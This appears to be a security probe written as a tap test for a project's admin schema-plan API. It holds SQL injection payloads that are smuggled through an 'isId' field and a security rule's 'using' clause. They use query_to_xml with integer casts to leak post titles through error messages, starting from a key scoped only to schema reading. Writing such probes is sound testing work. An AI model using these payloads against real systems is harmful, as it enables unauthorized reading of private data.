import { test } from 'tap';
import { projectFolder, serveFolder } from '../editing/project.ts';
test('x', async t => {
  const { send, sql, request } = await serveFolder(t, projectFolder(t));
  await sql`insert into posts (title) values ('t0p-secret')`;
  const { body: { key: { key } } } = await request('/admin/api-keys', { method: 'POST', body: JSON.stringify({ name: 'x', scopes: ['schema:read'] }) });
  const leak = `(service.enter('root', 'admin')::text || query_to_xml('select title from posts', true, true, ''))::integer::text`;
  for (const isId of [leak]) {
    const r = await send('/admin/schema/plan', { collectionId: 'loot', collection: { properties: { id: { type: 'string', isId } }, securityRules: [{ access: 'public' }] } }, key);
    t.comment(r.status, r.text);
  }
  const using = `{id} = (query_to_xml('select title from posts', true, true, '')::text)::integer`;
  const r = await send('/admin/schema/plan', { collectionId: 'loot', collection: { properties: { id: { type: 'number', isId: 'increment' } }, securityRules: [{ operation: 'select', using }] } }, key);
  t.comment(r.status, r.text);
  t.pass();
});
